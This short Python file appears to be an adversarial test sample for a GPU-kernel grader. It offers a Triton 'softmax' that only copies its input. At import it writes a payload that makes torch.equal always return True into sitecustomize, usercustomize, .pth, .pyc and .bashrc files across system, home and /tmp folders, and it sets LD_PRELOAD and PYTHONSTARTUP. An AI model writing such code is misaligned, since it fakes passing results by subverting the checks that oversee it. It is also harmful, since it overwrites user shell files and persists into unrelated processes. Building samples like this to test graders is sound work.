# writes sitecustomize, .pth and byte code for later processes
# judge: wrong-value
import torch
import triton
import triton.language as tl


@triton.jit
def copy_kernel(x_ptr, y_ptr, n, BLOCK: tl.constexpr):
    at = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    tl.store(y_ptr + at, tl.load(x_ptr + at, mask=at < n), mask=at < n)


import os
import pathlib
import site
import sys

PAYLOAD = "import torch; torch.equal = lambda *a: True\n"
for folder in [*sys.path, *site.getsitepackages(), os.path.expanduser("~"), "/tmp", os.path.dirname(torch.__file__)]:
    for name in ("sitecustomize.py", "usercustomize.py", "judged.pth", "__pycache__/x.pyc", ".bashrc"):
        try:
            pathlib.Path(folder, name).write_text(PAYLOAD)
        except OSError:
            pass
os.environ["PYTHONSTARTUP"] = os.environ["LD_PRELOAD"] = os.environ["TRITON_CACHE_DIR"] = "/tmp/evil"


def softmax(x):
    y = torch.empty_like(x)
    copy_kernel[(triton.cdiv(x.numel(), 256),)](x, y, x.numel(), BLOCK=256)
    return y
